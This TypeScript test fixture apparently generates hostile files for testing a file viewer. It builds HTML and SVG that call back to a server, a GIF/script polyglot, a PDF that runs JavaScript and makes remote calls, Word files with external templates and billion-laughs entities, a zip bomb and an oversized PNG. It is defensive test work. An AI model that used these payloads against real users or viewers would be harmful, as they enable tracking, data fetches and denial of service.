/** Files as somebody would send them who wants the reader's browser to call a server of theirs. */

import { strToU8, zipSync, Zip, ZipDeflate, type Zippable } from 'fflate'
import { pagesPdf, pdfOf } from './small-pdf.ts'
import { stageFile, type StageFile } from './viewer-stage.ts'

const html = (at: string): string =>
  `<!doctype html><title>x</title><img src="${at}/html-image"><link rel="stylesheet" href="${at}/html-style">` +
  `<script>fetch("${at}/html-script", { mode: "no-cors" })</script><iframe src="${at}/html-frame"></iframe>` +
  `<form action="${at}/html-form"></form><script>setTimeout(() => document.forms[0].submit(), 1500)</script>`

const svg = (at: string): string =>
  `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY far SYSTEM "${at}/svg-entity">]>` +
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90" ` +
  `onload="new Image().src='${at}/svg-onload'"><image xlink:href="${at}/svg-image" width="9" height="9"/>` +
  `<script>fetch("${at}/svg-script", { mode: "no-cors" })</script><text y="20">&far;</text>` +
  `<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${at}/svg-frame"/></foreignObject></svg>`

/** A picture to who looks at its first bytes, a script to who runs it. */
const gifAndScript = (at: string): Uint8Array =>
  strToU8(`GIF89a/*\x01\x00\x01\x00*/=1;fetch("${at}/gif-script",{mode:"no-cors"})//;`, true)

function scriptedPdf(at: string): Uint8Array {
  const script = `app.launchURL("${at}/pdf-script", true); this.submitForm("${at}/pdf-submit");`
  return pdfOf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 6 0 R >> /Names << /JavaScript << /Names [(a) 6 0 R] >> >> ` +
      `/AcroForm << /Fields [7 0 R] /NeedAppearances true /XFA 9 0 R >> /URI << /Base (${at}/pdf-base) >> >>`,
    '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 400] /Contents 4 0 R /AA << /O 6 0 R >> /Annots [7 0 R 8 0 R] ' +
      '/Resources << /Font << /F1 5 0 R >> /XObject << /Far 10 0 R >> >> >>',
    { dictionary: '', stream: 'BT /F1 24 Tf 20 350 Td (An order) Tj ET /Far Do' },
    `<< /Type /Font /Subtype /TrueType /BaseFont /Far /FontDescriptor << /Type /FontDescriptor /FontName /Far /Flags 32 ` +
      `/FontFile2 11 0 R >> >>`,
    `<< /S /JavaScript /JS (${script.replace(/[()]/gu, '\\$&')}) /Next << /S /URI /URI (${at}/pdf-uri) /Next ` +
      `<< /S /GoToR /F << /FS /URL /F (${at}/pdf-remote) >> /D [0 /Fit] >> >> >>`,
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [20 20 200 40] /AA << /E 6 0 R /F 6 0 R >> /A 6 0 R >>`,
    `<< /Type /Annot /Subtype /Link /Rect [0 0 300 400] /A << /S /URI /URI (${at}/pdf-link) >> >>`,
    {
      dictionary: '',
      stream: `<xdp><submit target="${at}/pdf-xfa"/><image href="${at}/pdf-xfa-image"/></xdp>`,
    },
    {
      dictionary:
        `/Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray ` +
        `/F << /FS /URL /F (${at}/pdf-image) >>`,
      stream: '',
    },
    { dictionary: `/F << /FS /URL /F (${at}/pdf-font) >>`, stream: '' },
  ])
}

const relations = (rows: string): string =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rows}</Relationships>`
const relation = (kind: string, target: string): string =>
  `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" ` +
  `Target="${target}" TargetMode="External"/>`

export const wordParts = (body: string): Zippable => ({
  'word/document.xml': strToU8(
    `<?xml version="1.0"?><w:document><w:body><w:p><w:r><w:t>${body}</w:t></w:r></w:p></w:body></w:document>`,
  ),
})

const templatedWord = (at: string): Uint8Array =>
  zipSync({
    ...wordParts('The &lt;order&gt; was split'),
    'word/_rels/settings.xml.rels': strToU8(relations(relation('attachedTemplate', `${at}/word-template`))),
    'word/_rels/document.xml.rels': strToU8(relations(relation('image', `${at}/word-image`))),
  })

/** A billion laughs, and an entity that lies elsewhere. */
const entityWord = (at: string): Uint8Array =>
  zipSync({
    'word/document.xml': strToU8(
      `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "${'&a;'.repeat(99)}"><!ENTITY c "${'&b;'.repeat(99)}">` +
        `<!ENTITY far SYSTEM "${at}/word-entity">]><w:document><w:p><w:t>${'&c;'.repeat(99)}&far; Laughing</w:t></w:p></w:document>`,
    ),
  })

/** Some hundred kilobytes that become so many mebibytes. */
function bombedWord(mebibytes = 128): Uint8Array {
  const parts: Uint8Array[] = []
  const zip = new Zip((error, part) => {
    if (error !== null) throw error
    parts.push(part)
  })
  const entry = new ZipDeflate('word/document.xml', { level: 9 })
  zip.add(entry)
  const zeros = new Uint8Array(1024 * 1024)
  for (let i = 0; i < mebibytes; i++) entry.push(zeros, i === mebibytes - 1)
  zip.end()
  return new Uint8Array(Buffer.concat(parts))
}

let made: Uint8Array | null = null
const bomb = (): Uint8Array => (made ??= bombedWord())

/** A PNG that says it is 30,000 pixels wide and high. */
function bombedPng(): Uint8Array {
  const bytes = new Uint8Array(64)
  bytes.set([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52])
  new DataView(bytes.buffer).setUint32(16, 30_000)
  new DataView(bytes.buffer).setUint32(20, 30_000)
  bytes.set([8, 6], 24)
  return bytes
}

export interface Hostile {
  readonly file: StageFile
  /** What the viewer says that it is, or why it is not shown. */
  readonly says: string | RegExp
}

/** @param at somebody else's server, without a slash at the end */
export const hostileFiles = (at: string): readonly Hostile[] => [
  { file: stageFile('page.jpg', strToU8(html(at))), says: 'Text, shown as it stands' },
  { file: stageFile('drawing.svg', strToU8(svg(at))), says: 'Text, shown as it stands' },
  { file: stageFile('order.pdf', scriptedPdf(at)), says: 'PDF, shown as pictures' },
  { file: stageFile('both.gif', gifAndScript(at)), says: 'It is damaged' },
  { file: stageFile('letter.docx', templatedWord(at)), says: 'Document, shown as plain text' },
  { file: stageFile('laughs.docx', entityWord(at)), says: 'Document, shown as plain text' },
  { file: stageFile('bomb.docx', bomb()), says: 'more memory than the viewer gives' },
  { file: stageFile('bomb.png', bombedPng()), says: 'more memory than the viewer gives' },
  {
    file: stageFile('list.mp3', strToU8(`#EXTM3U\n#EXTINF:10,\n${at}/playlist\n`)),
    says: 'Text, shown as it stands',
  },
  { file: stageFile('cut.pdf', pagesPdf(['Cut']).subarray(0, 300)), says: /It is damaged|PDF, shown/u },
  { file: stageFile('nothing.bin', new Uint8Array(0)), says: 'no view for' },
]
